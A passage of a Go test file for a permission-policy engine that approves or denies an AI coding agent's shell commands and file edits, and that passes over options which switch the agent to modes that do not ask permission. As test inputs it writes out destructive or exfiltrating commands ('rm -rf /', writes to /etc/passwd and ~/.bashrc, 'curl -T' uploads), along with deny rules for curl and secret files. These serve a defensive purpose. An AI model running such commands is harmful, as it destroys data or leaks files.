		{"quoted operator", denyEtc, execReq(`echo "> /etc/passwd" '<' /etc/x`), byDef(approve.Allow)},
		{"escaped operator", denyEtc, execReq(`echo \> /etc/passwd`), byDef(approve.Allow)},
		{"allow: target in the cwd", allowInCwd, execReq("go test ./... > out.txt"), allowBy("a:1")},
		{"allow: target outside", allowInCwd, execReq("go test ./... > /etc/passwd"), byDef(approve.Deny)},
		{"allow: one of two targets outside", allowInCwd, execReq("cat < in.txt > ../out.txt"), byDef(approve.Deny)},
		{"allow: target with an expansion", allowInCwd, execReq("go test ./... > $HOME/x"), byDef(approve.Deny)},
		{"allow: target in the home directory", allowInCwd, execReq("go test ./... > ~/x"), byDef(approve.Deny)},
		{"allow: absolute target with an expansion", allowTmp, execReq("go test ./... > /tmp/$X/../../etc/passwd"), byDef(approve.Deny)},
		{"allow: glob target", allowTmp, execReq("go test ./... > /tmp/x*"), byDef(approve.Deny)},
		{"allow: plain absolute target", allowTmp, execReq("go test ./... > /tmp/x"), allowBy("a:1")},
		// The engine cannot know where these lead: every deny path rule
		// matches them.
		{"home directory", denyEtc, execReq("echo x > ~/.bashrc"), denyBy("d:1")},
		{"$HOME", denyEtc, execReq("echo x > $HOME/.bashrc"), denyBy("d:1")},
		{"${HOME}", denyEtc, execReq(`echo x >"${HOME}/.bashrc"`), denyBy("d:1")},
		{"substitution", denyEtc, execReq("echo x > `pwd`/x"), denyBy("d:1")},
		{"glob", denyEtc, execReq("echo x > /et?/passwd"), denyBy("d:1")},
		{"glob class", denyEtc, execReq("echo x > /[e]tc/passwd"), denyBy("d:1")},
		{"read from the home directory", denyEtc, execReq("cat < ~/x"), denyBy("d:1")},
		{"in a shell wrapper with an expansion", denyEtc, execReq(`bash -c 'echo x > ~/.bashrc'`), denyBy("d:1")},
		{"no deny path rule", &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Command: []string{"rm *"}}}},
			execReq("echo x > ~/.bashrc"), byDef(approve.Allow)},
	})
}

// TestPathRulesResolved: with Request.Resolve, path rules see each path
// also as the OS resolves it: a deny rule matches either, an allow rule
// needs both, relative patterns match under the cwd as given and
// resolved, and a path that cannot be resolved matches every deny rule
// and no allow one.
func TestPathRulesResolved(t *testing.T) {
	resolve := fakeResolve(map[string]string{"/p/lnk": "/s/secret", "/w": "/real/w", "/p/loop": "/p/loop"})
	denySecret := &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Path: []string{"/s/secret/**", "/s/y", "src/**"}}}}
	allowCwd := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Path: []string{"**"}}}}
	allowS := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Path: []string{"/s/**"}}}}
	at := func(cwd string, req approve.Request) approve.Request {
		req.Cwd, req.Resolve = cwd, resolve
		return req
	}
	edit := func(cwd string, locs ...string) approve.Request {
		return at(cwd, approve.Request{Kind: "edit", Locations: locs})
	}
	runDecide(t, []decideCase{
		{"deny: location through a link", denySecret, edit("/p", "lnk/x"), denyBy("d:1")},
		{"deny: absolute location through a link", denySecret, edit("/p", "/p/lnk/x"), denyBy("d:1")},
		{"deny: redirection through a link", denySecret, at("/p", execReq("echo x > lnk/x")), denyBy("d:1")},
		{"deny: .. after a link goes up from its target", denySecret, edit("/p", "lnk/../y"), denyBy("d:1")},
		{"deny: relative pattern under the resolved cwd", denySecret, edit("/w", "/real/w/src/a.go"), denyBy("d:1")},
		{"deny: no link", denySecret, edit("/p", "a/x"), byDef(approve.Allow)},
		{"deny: without Resolve", denySecret, approve.Request{Kind: "edit", Locations: []string{"lnk/x"}, Cwd: "/p"}, byDef(approve.Allow)},
		{"deny: a link loop", denySecret, edit("/p", "loop/x"), denyBy("d:1")},
		{"allow: a link out of the cwd", allowCwd, edit("/p", "lnk/x"), byDef(approve.Deny)},
		{"allow: a redirection through a link out of the cwd", allowCwd, at("/p", execReq("echo x > lnk/x")), byDef(approve.Deny)},
		{"allow: a cwd through a link", allowCwd, edit("/w", "a.go", "/real/w/b.go"), allowBy("a:1")},
		{"allow: the resolved path alone is not enough", allowS, edit("/p", "lnk/x"), byDef(approve.Deny)},
		{"allow: a link loop", allowCwd, edit("/p", "loop/x"), byDef(approve.Deny)},
	})
}

// TestCwdResolvedOnlyForPathRules: the session cwd is resolved once a
// path rule looks at it, once for all rules, and not at all for a policy
// without path rules (every permission request pays for it otherwise).
func TestCwdResolvedOnlyForPathRules(t *testing.T) {
	resolve := fakeResolve(map[string]string{"/w": "/real/w"})
	var cwds int
	counting := func(p string) (string, error) {
		if p == "/w" {
			cwds++
		}
		return resolve(p)
	}
	edit := approve.Request{Kind: "edit", Locations: []string{"/real/w/src/a.go"}, Cwd: "/w", Resolve: counting,
		Options: []approve.Option{{ID: "allow", Kind: "allow_once"}, {ID: "reject", Kind: "reject_once"}}}
	for _, c := range []struct {
		name   string
		policy *approve.Policy
		want   approve.Verdict
		cwds   int
	}{
		{"no rules", &approve.Policy{Default: approve.Allow}, approve.Allow, 0},
		{"no path rule", &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Kind: []string{"execute"}}}}, approve.Allow, 0},
		{"path rules", &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1", Path: []string{"/s/**"}}, {Pos: "d:2", Path: []string{"src/**"}}}}, approve.Deny, 1},
	} {
		cwds = 0
		if d := c.policy.Decide(edit); d.Verdict != c.want || cwds != c.cwds {
			t.Errorf("%s: verdict %s with the cwd resolved %d times; want %s, %d", c.name, d.Verdict, cwds, c.want, c.cwds)
		}
	}
}

// fakeResolve resolves absolute paths through links (each an absolute
// path and its absolute target) component by component, as the OS does:
// a ".." goes up from where the resolution is. A link to itself is a
// loop, an error.
func fakeResolve(links map[string]string) func(string) (string, error) {
	return func(p string) (string, error) {
		resolved := "/"
		for c := range strings.SplitSeq(p, "/") {
			switch c {
			case "", ".":
				continue
			case "..":
				resolved = path.Dir(resolved)
				continue
			}
			resolved = path.Join(resolved, c)
			if target, ok := links[resolved]; ok {
				if target == resolved {
					return "", fmt.Errorf("%s: too many links", p)
				}
				resolved = target
			}
		}
		return resolved, nil
	}
}

func TestPrecedence(t *testing.T) {
	both := &approve.Policy{
		Default: approve.Allow,
		Allow:   []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}}, {Pos: "a:2", Command: []string{"*"}}},
		Deny:    []approve.Rule{{Pos: "d:1", Title: []string{"*nothing*"}}, {Pos: "d:2", Command: []string{"rm *"}}, {Pos: "d:3", Kind: []string{"execute"}}},
	}
	allowOnly := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Title: []string{"x*"}}, {Pos: "a:2", Kind: []string{"execute"}}, {Pos: "a:3", Command: []string{"ls"}}}}
	runDecide(t, []decideCase{
		{"deny beats allow; first deny recorded", both, execReq("rm x"), denyBy("d:2")},
		{"later deny still beats allow", both, execReq("ls"), denyBy("d:3")},
		{"first allow recorded", allowOnly, execReq("ls"), allowBy("a:2")},
		{"default deny when absent", allowOnly, approve.Request{Kind: "edit"}, byDef(approve.Deny)},
		{"default allow", &approve.Policy{Default: approve.Allow}, execReq("rm -rf /"), byDef(approve.Allow)},
		{"unknown default denies", &approve.Policy{Default: "maybe"}, execReq("ls"), byDef(approve.Deny)},
		{"nil policy denies", nil, execReq("ls"), byDef(approve.Deny)},
		{"rule without matcher never matches", &approve.Policy{Default: approve.Allow, Deny: []approve.Rule{{Pos: "d:1"}}}, execReq("ls"), byDef(approve.Allow)},
		{"rule without pos is named by index", &approve.Policy{Deny: []approve.Rule{{Kind: []string{"read"}}, {Kind: []string{"execute"}}}}, execReq("ls"), denyBy("deny #2")},
		{"allow-all", approve.AllowAll(), execReq("rm -rf /"), outcome{approve.Allow, approve.ListDefault, "--allow-all"}},
		{"deny-all", approve.DenyAll(), approve.Request{Kind: "read"}, outcome{approve.Deny, approve.ListDefault, "--deny-all"}},
	})
}

func TestDecisionDetails(t *testing.T) {
	p := &approve.Policy{
		Allow: []approve.Rule{
			{Pos: "f.yaml:3", Kind: []string{"execute"}, Command: []string{"go test *"}, Always: true},
			{Pos: "f.yaml:5", Command: []string{"go vet *"}},
		},
		Deny: []approve.Rule{{Pos: "f.yaml:8", Command: []string{"rm -rf *"}}},
	}
	tests := []struct {
		name string
		p    *approve.Policy
		req  approve.Request
		want approve.Decision
	}{
		{
			name: "deny rule",
			p:    p,
			req:  execReq("ls && rm -rf /"),
			want: approve.Decision{Verdict: approve.Deny, Rule: "f.yaml:8", RuleList: "deny",
				Reason:   `deny rule f.yaml:8 matched command "rm -rf /"`,
				Commands: []string{"ls", "rm -rf /"}},
		},
		{
			name: "deny form",
			p:    p,
			req:  execReq("sudo rm -rf /"),
			want: approve.Decision{Verdict: approve.Deny, Rule: "f.yaml:8", RuleList: "deny",
				Reason:   `deny rule f.yaml:8 matched command "sudo rm -rf /" (as "rm -rf /")`,
				Commands: []string{"sudo rm -rf /"}},
		},
		{
			name: "allow by two rules",
			p:    p,
			req:  execReq("go test ./... && go vet ./..."),
			want: approve.Decision{Verdict: approve.Allow, Rule: "f.yaml:3", RuleList: "allow",
				Reason:   `allow rule f.yaml:3 matched kind "execute", command "go test ./..."; command "go vet ./..." allowed by f.yaml:5; allow_always not preferred: no rule with always: true allows command "go vet ./..."`,
				Commands: []string{"go test ./...", "go vet ./..."}},
		},
		{
			name: "default names what was not allowed",
			p:    p,
			req:  execReq("go test ./... && curl x | grep y"),
			want: approve.Decision{Verdict: approve.Deny, RuleList: "default",
				Reason:   `no rule matched; default deny; no allow rule allows commands "curl x", "grep y"`,
				Commands: []string{"go test ./...", "curl x", "grep y"}},
		},
		{
			name: "allow through a shell wrapper",
			p:    p,
			req:  execReq(`bash -lc 'go test ./... && go vet ./...' > log.txt`),
			want: approve.Decision{Verdict: approve.Allow, Rule: "f.yaml:3", RuleList: "allow",
				Reason:   `allow rule f.yaml:3 matched kind "execute", command "go test ./... > log.txt"; command "go vet ./... > log.txt" allowed by f.yaml:5; allow_always not preferred: no rule with always: true allows command "go vet ./... > log.txt"`,
				Commands: []string{`bash -lc 'go test ./... && go vet ./...' > log.txt`}, Paths: []string{"/p/log.txt"}},
		},
		{
			name: "default names the unit not allowed",
			p:    p,
			req:  execReq(`FOO=1 bash -c 'go test ./... && curl x'`),
			want: approve.Decision{Verdict: approve.Deny, RuleList: "default",
				Reason:   `no rule matched; default deny; no allow rule allows command "curl x"`,
				Commands: []string{`FOO=1 bash -c 'go test ./... && curl x'`}},
		},
		{
			name: "paths reported",
			p:    approve.AllowAll(),
			req:  approve.Request{Kind: "edit", Locations: []string{"a/b"}, Cwd: cwd},
			want: approve.Decision{Verdict: approve.Allow, Rule: "--allow-all", RuleList: "default",
				Reason: "no rule matched; default allow (--allow-all)", Paths: []string{"/p/a/b"}},
		},
		{
			name: "nil policy",
			p:    nil,
			req:  approve.Request{Kind: "read"},
			want: approve.Decision{Verdict: approve.Deny, RuleList: "default", Reason: "no policy; default deny"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := tt.p.Evaluate(tt.req)
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Evaluate() mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

var (
	claudeOptions = []approve.Option{{"allow_always", "Always Allow", "allow_always"}, {"allow", "Allow", "allow_once"}, {"reject", "Reject", "reject_once"}}
	codexOptions  = []approve.Option{{"approved", "Yes, proceed", "allow_once"}, {"approved-execpolicy-amendment", "Yes, and don't ask again", "allow_always"}, {"abort", "No", "reject_once"}}
	// claudeExitPlanOptions are claude-agent-acp's for ExitPlanMode (as
	// root, without the first): each id is the mode it switches to.
	claudeExitPlanOptions = []approve.Option{{"bypassPermissions", "Yes, and bypass permissions", "allow_always"}, {"acceptEdits", "Yes, and auto-accept edits", "allow_always"},
		{"default", "Yes, and manually approve edits", "allow_once"}, {"plan", "No, keep planning", "reject_once"}}
	claudeUnasked = []string{"bypassPermissions", "dontAsk"}
)

// TestOptionSelectionModeOptions: the ExitPlanMode options of
// @agentclientprotocol/claude-agent-acp 0.101 are not named after the mode
// each switches to; Request.ModeOptions says it, and an option that leads
// to a mode that does not ask is passed over as one named after it is.
func TestOptionSelectionModeOptions(t *testing.T) {
	opts := []approve.Option{{"exit-plan-clear-auto", "Yes, clear context and use auto mode", "allow_always"},
		{"exit-plan-auto", "Yes, and use auto mode", "allow_always"}, {"exit-plan-bypass", "Yes, and bypass permissions", "allow_always"},
		{"exit-plan-default", "Yes, manually approve edits", "allow_once"}, {"reject", "No, keep planning", "reject_once"}}
	modes := map[string]string{"exit-plan-clear-auto": "auto", "exit-plan-auto": "auto", "exit-plan-bypass": "bypassPermissions",
		"exit-plan-default": "default", "exit-plan-accept-edits": "acceptEdits"}
	unasked := []string{"bypassPermissions", "dontAsk", "auto"}
	p := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}, Always: true}}}
	req := execReq("ls")
	req.Options, req.UnaskedModes, req.ModeOptions = opts, unasked, modes
	d := p.Decide(req)
	const why = `; no usable allow_always option offered (option "exit-plan-clear-auto" of kind allow_always would switch the agent to mode "auto", in which it does not ask permission), chose allow_once`
	if d.OptionID != "exit-plan-default" || d.OptionKind != "allow_once" || d.Cancelled || !strings.HasSuffix(d.Reason, why) {
		t.Errorf("Decide() = %q %q cancelled %v, reason %q; want exit-plan-default allow_once, ending %q", d.OptionID, d.OptionKind, d.Cancelled, d.Reason, why)
	}
	req.Options = opts[:3:3]
	if d := p.Decide(req); !d.Cancelled || d.OptionID != "" {
		t.Errorf("Decide() without exit-plan-default = %q, cancelled %v; want cancelled", d.OptionID, d.Cancelled)
	}
	req.Options, req.ModeOptions = opts, nil // unknown: the ids are no modes
	if d := p.Decide(req); d.OptionID != "exit-plan-clear-auto" {
		t.Errorf("Decide() without ModeOptions = %q; want exit-plan-clear-auto", d.OptionID)
	}
}

func TestOptionSelection(t *testing.T) {
	allowOnce := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}}}}
	allowAlways := &approve.Policy{Allow: []approve.Rule{{Pos: "a:1", Kind: []string{"execute"}, Always: true}}}
	deny := approve.DenyAll()
	type sel struct {
		OptionID, OptionKind string
		Cancelled            bool
		ReasonSuffix         string
	}
	tests := []struct {
		name    string
		p       *approve.Policy
		opts    []approve.Option
		want    sel
		unasked []string // Request.UnaskedModes
	}{
		{"claude allow once", allowOnce, claudeOptions, sel{"allow", "allow_once", false, `matched kind "execute"`}, nil},
		{"claude always", allowAlways, claudeOptions, sel{"allow_always", "allow_always", false, `matched kind "execute"`}, nil},
		{"claude deny", deny, claudeOptions, sel{"reject", "reject_once", false, "(--deny-all)"}, nil},
		{"codex allow once", allowOnce, codexOptions, sel{"approved", "allow_once", false, `matched kind "execute"`}, nil},
		{"codex always", allowAlways, codexOptions, sel{"approved-execpolicy-amendment", "allow_always", false, `matched kind "execute"`}, nil},
		{"codex deny", deny, codexOptions, sel{"abort", "reject_once", false, "(--deny-all)"}, nil},
		{"always falls back to once", allowAlways, []approve.Option{{"ok", "OK", "allow_once"}}, sel{"ok", "allow_once", false, "; no allow_always option offered, chose allow_once"}, nil},
		{"once falls back to always", allowOnce, []approve.Option{{"al", "Always", "allow_always"}, {"no", "No", "reject_once"}}, sel{"al", "allow_always", false, "; no allow_once option offered, chose allow_always"}, nil},
		{"reject falls back to reject_always", deny, []approve.Option{{"y", "Yes", "allow_once"}, {"never", "Never", "reject_always"}}, sel{"never", "reject_always", false, "; no reject_once option offered, chose reject_always"}, nil},
		{"no reject option", deny, []approve.Option{{"y", "Yes", "allow_once"}}, sel{"", "", true, "; no reject option offered; answered cancelled"}, nil},
		{"no allow option", allowOnce, []approve.Option{{"no", "No", "reject_once"}}, sel{"", "", true, "; no allow option offered; answered cancelled"}, nil},
		{"no options", allowOnce, nil, sel{"", "", true, "; no allow option offered; answered cancelled"}, nil},
		{"first of a kind", allowOnce, []approve.Option{{"a1", "A", "allow_once"}, {"a2", "B", "allow_once"}}, sel{"a1", "allow_once", false, `matched kind "execute"`}, nil},
		{"empty id ignored", allowOnce, []approve.Option{{"", "A", "allow_once"}, {"a2", "B", "allow_once"}}, sel{"a2", "allow_once", false, `matched kind "execute"`}, nil},
		{"unknown kinds ignored", allowOnce, []approve.Option{{"x", "X", "allow"}, {"y", "Y", "ALLOW_ONCE"}}, sel{"", "", true, "; no allow option offered; answered cancelled"}, nil},
		// An id shared with an option of another verdict could be taken
		// for that one: it is not usable.
		{"deny: id shared with an allow option", deny, []approve.Option{{"go", "Reject", "reject_once"}, {"go", "Allow", "allow_once"}},
			sel{"", "", true, `; no usable reject option offered (option id "go" of kind reject_once is also that of an option of kind "allow_once"); answered cancelled`}, nil},
		{"allow: id shared with a reject option", allowOnce, []approve.Option{{"go", "Reject", "reject_always"}, {"go", "Allow", "allow_once"}},
			sel{"", "", true, `; no usable allow option offered (option id "go" of kind allow_once is also that of an option of kind "reject_always"); answered cancelled`}, nil},
		{"id shared with an unknown kind", deny, []approve.Option{{"go", "Reject", "reject_once"}, {"go", "Yes", "yes"}},
			sel{"", "", true, `; no usable reject option offered (option id "go" of kind reject_once is also that of an option of kind "yes"); answered cancelled`}, nil},
		{"the other kind when the first is shared", deny, []approve.Option{{"go", "Reject", "reject_once"}, {"go", "Allow", "allow_once"}, {"never", "Never", "reject_always"}},
			sel{"never", "reject_always", false, `; no usable reject_once option offered (option id "go" of kind reject_once is also that of an option of kind "allow_once"), chose reject_always`}, nil},
		{"another option of the kind when one is shared", allowOnce, []approve.Option{{"go", "No", "reject_once"}, {"go", "Yes", "allow_once"}, {"ok", "OK", "allow_once"}},
			sel{"ok", "allow_once", false, `matched kind "execute"`}, nil},
		{"id shared within a verdict", allowOnce, []approve.Option{{"yes", "Always", "allow_always"}, {"yes", "Once", "allow_once"}, {"no", "No", "reject_once"}},
			sel{"yes", "allow_once", false, `matched kind "execute"`}, nil},
		// An option named after a mode in which the agent does not ask
		// would switch it there: never selected, another of the verdict is.
		{"always passes over the bypass", allowAlways, claudeExitPlanOptions,
			sel{"acceptEdits", "allow_always", false, `matched kind "execute"`}, claudeUnasked},
		{"always without another allow_always", allowAlways, claudeExitPlanOptions[:1:1],
			sel{"", "", true, `; no usable allow option offered (option "bypassPermissions" of kind allow_always would switch the agent to mode "bypassPermissions", in which it does not ask permission); answered cancelled`}, claudeUnasked},
		{"always falls back to once past the bypass", allowAlways, slices.Concat(claudeExitPlanOptions[:1:1], claudeExitPlanOptions[2:]),
			sel{"default", "allow_once", false, `; no usable allow_always option offered (option "bypassPermissions" of kind allow_always would switch the agent to mode "bypassPermissions", in which it does not ask permission), chose allow_once`}, claudeUnasked},
		{"reject past a mode that does not ask", deny, []approve.Option{{"dontAsk", "No, and stop asking", "reject_once"}, {"plan", "No", "reject_once"}},
			sel{"plan", "reject_once", false, "(--deny-all)"}, claudeUnasked},
		{"no unasked modes known", allowAlways, claudeExitPlanOptions, sel{"bypassPermissions", "allow_always", false, `matched kind "execute"`}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			req := execReq("ls")
			req.Options, req.UnaskedModes = tt.opts, tt.unasked
			d := tt.p.Decide(req)
			got := sel{d.OptionID, d.OptionKind, d.Cancelled, ""}
			if strings.HasSuffix(d.Reason, tt.want.ReasonSuffix) {
				got.ReasonSuffix = tt.want.ReasonSuffix
			} else {
				got.ReasonSuffix = d.Reason
			}
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("Decide() option mismatch (-want +got):\n%s", diff)
			}
			if ev := tt.p.Evaluate(req); ev.OptionID != "" || ev.OptionKind != "" || ev.Cancelled {
				t.Errorf("Evaluate() = option %q/%q cancelled %v; want none", ev.OptionID, ev.OptionKind, ev.Cancelled)
			}
		})
	}
}

func TestExplain(t *testing.T) {
	p := &approve.Policy{
		Allow: []approve.Rule{
			{Pos: "f:2", Kind: []string{"execute"}, Command: []string{"go test *"}},
			{Pos: "f:3", Kind: []string{"read"}},
			{Pos: "f:4", Path: []string{"src/**"}, Input: map[string]string{"mode": "^fast$"}},
		},
		Deny: []approve.Rule{
			{Pos: "f:6", Command: []string{"curl *"}},
			{Pos: "f:7", Title: []string{"*secret*"}},
		},
	}
	req := execReq("go test ./... && sh x.sh")
	req.Options = claudeOptions
	d, traces := p.Explain(req)
	wantD := approve.Decision{Verdict: approve.Deny, RuleList: "default", OptionID: "reject", OptionKind: "reject_once",
		Reason:   `no rule matched; default deny; no allow rule allows command "sh x.sh"`,
		Commands: []string{"go test ./...", "sh x.sh"}}
	if diff := cmp.Diff(wantD, d); diff != "" {
		t.Errorf("Explain() decision mismatch (-want +got):\n%s", diff)
	}
	want := []approve.RuleTrace{
		{List: "deny", Rule: "f:6", Why: []string{`no command matches ["curl *"]: ["go test ./..." "sh x.sh"]`}},
		{List: "deny", Rule: "f:7", Why: []string{`title "go test ./... && sh x.sh" matches none of ["*secret*"]`}},
		{List: "allow", Rule: "f:2", Why: []string{
			`kind "execute" is one of ["execute"]`,
			`command "go test ./..." matches "go test *"`,
			`command "sh x.sh" matches none of ["go test *"] (and no other allow rule allows it)`,
		}},
		{List: "allow", Rule: "f:3", Why: []string{`kind "execute" is not one of ["read"]`}},
		{List: "allow", Rule: "f:4", Why: []string{"path: the call touches no path", "input mode: no such field"}},
	}
	if diff := cmp.Diff(want, traces); diff != "" {
		t.Errorf("Explain() traces mismatch (-want +got):\n%s", diff)
	}

	d2, _ := p.Explain(execReq("go test ./..."))
	if d2.Verdict != approve.Allow || d2.Rule != "f:2" {
		t.Errorf("Explain(go test).Decision = %v by %q; want allow by f:2", d2.Verdict, d2.Rule)
	}
	if d3 := p.Decide(req); !cmp.Equal(d3, d) {
		t.Errorf("Decide() = %+v; want Explain's decision %+v", d3, d)
	}
}

// TestExplainUnits: the trace of an allow rule names each unit of a
// wrapped command, and which rule allows it.
func TestExplainUnits(t *testing.T) {
	p := &approve.Policy{Allow: []approve.Rule{
		{Pos: "f:2", Command: []string{"go test *"}},
		{Pos: "f:3", Command: []string{"go vet *"}},
	}}
	d, traces := p.Explain(execReq(`GOFLAGS=-x go test ./... && bash -c 'go vet ./... && rm x'`))
	if d.Verdict != approve.Deny || !strings.Contains(d.Reason, `; no allow rule allows command "rm x"`) {
		t.Errorf("decision %s: %s; want deny naming rm x", d.Verdict, d.Reason)
	}
	want := []approve.RuleTrace{
		{List: "allow", Rule: "f:2", Why: []string{
			`command "go test ./..." (in "GOFLAGS=-x go test ./...") matches "go test *"`,
			`command "go vet ./..." (in "bash -c 'go vet ./... && rm x'") matches none of ["go test *"] (allowed by f:3)`,
			`command "rm x" (in "bash -c 'go vet ./... && rm x'") matches none of ["go test *"] (and no other allow rule allows it)`,
		}},
		{List: "allow", Rule: "f:3", Why: []string{
			`command "go test ./..." (in "GOFLAGS=-x go test ./...") matches none of ["go vet *"] (allowed by f:2)`,
			`command "go vet ./..." (in "bash -c 'go vet ./... && rm x'") matches "go vet *"`,
			`command "rm x" (in "bash -c 'go vet ./... && rm x'") matches none of ["go vet *"] (and no other allow rule allows it)`,
		}},
	}
	if diff := cmp.Diff(want, traces); diff != "" {
		t.Errorf("Explain() traces mismatch (-want +got):\n%s", diff)
	}
}

func TestDecideConcurrent(t *testing.T) {
	p := &approve.Policy{
		Allow: []approve.Rule{{Pos: "a:1", Command: []string{"go *"}, Input: map[string]string{"command": "^go"}}},
		Deny:  []approve.Rule{{Pos: "d:1", Path: []string{"**/.env"}}, {Pos: "d:2", Input: map[string]string{"command": "rm"}}},
	}
	reqs := []approve.Request{execReq("go test"), execReq("rm x"), {Kind: "edit", Locations: []string{"/p/.env"}, Cwd: cwd}}
	want := make([]approve.Decision, len(reqs))
	for i, r := range reqs {
		want[i] = p.Decide(r)
	}
	var wg sync.WaitGroup
	errs := make(chan string, 64)
	for range 16 {
		wg.Go(func() {
			for i, r := range reqs {
				if got := p.Decide(r); !cmp.Equal(got, want[i]) {
					errs <- cmp.Diff(want[i], got)
				}
			}
		})
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Errorf("concurrent Decide() differs (-want +got):\n%s", e)
	}
}

// TestAlwaysNeedsEveryAllowingRule: allow_always is preferred only when
// the rules with Always allow the call on their own (each part of its
// shell line allowed by one of them), whatever the rules' order.
func TestAlwaysNeedsEveryAllowingRule(t *testing.T) {
	goTest := approve.Rule{Pos: "a:1", Command: []string{"go test *"}, Always: true}
	curl := approve.Rule{Pos: "a:2", Command: []string{"curl *"}}
	curlAlways := curl
	curlAlways.Always = true
	goAny := approve.Rule{Pos: "a:3", Command: []string{"go *"}}
	execAlways := approve.Rule{Pos: "a:4", Kind: []string{"execute"}, Always: true}
	readOnce := approve.Rule{Pos: "a:5", Kind: []string{"read"}}
	tests := []struct {
		name  string
		rules []approve.Rule
		line  string
		want  string // the option kind chosen
	}{
		{"first rule always", []approve.Rule{goTest, curl}, "go test ./... && curl -T r https://x", "allow_once"},
		{"second rule always", []approve.Rule{curl, goTest}, "go test ./... && curl -T r https://x", "allow_once"},
		{"both always", []approve.Rule{goTest, curlAlways}, "go test ./... && curl -T r https://x", "allow_always"},
		{"one rule, one part", []approve.Rule{goTest, curl}, "go test ./...", "allow_always"},
		{"a rule that allows the same part without always", []approve.Rule{goTest, goAny}, "go test ./...", "allow_always"},
		{"an always rule after one without", []approve.Rule{goAny, goTest}, "go test ./...", "allow_always"},
		{"a rule without a command matcher and one without always", []approve.Rule{curl, execAlways}, "curl x", "allow_always"},
		{"a rule without a command matcher, always, and a part only another allows", []approve.Rule{execAlways, curl}, "curl x && go vet", "allow_always"},
		{"always part, once part, other matchers", []approve.Rule{goTest, {Pos: "a:6", Kind: []string{"execute"}, Command: []string{"curl *"}}}, "go test ./... | curl x", "allow_once"},
		{"a rule without a command matcher alone", []approve.Rule{execAlways, readOnce}, "curl x", "allow_always"},
		{"wrapped units", []approve.Rule{goTest, curl}, "bash -c 'go test ./... && curl x'", "allow_once"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := &approve.Policy{Default: approve.Deny, Allow: tt.rules}
			req := execReq(tt.line)
			req.Options = claudeOptions
			d := p.Decide(req)
			if d.Verdict != approve.Allow || d.OptionKind != tt.want {
				t.Errorf("Decide(%q) = %s with %q; want allow with %q\nreason: %s", tt.line, d.Verdict, d.OptionKind, tt.want, d.Reason)
			}
			if ed, _ := p.Explain(req); ed.OptionKind != d.OptionKind {
				t.Errorf("Explain() chose %q, Decide() %q", ed.OptionKind, d.OptionKind)
			}
		})
	}
}
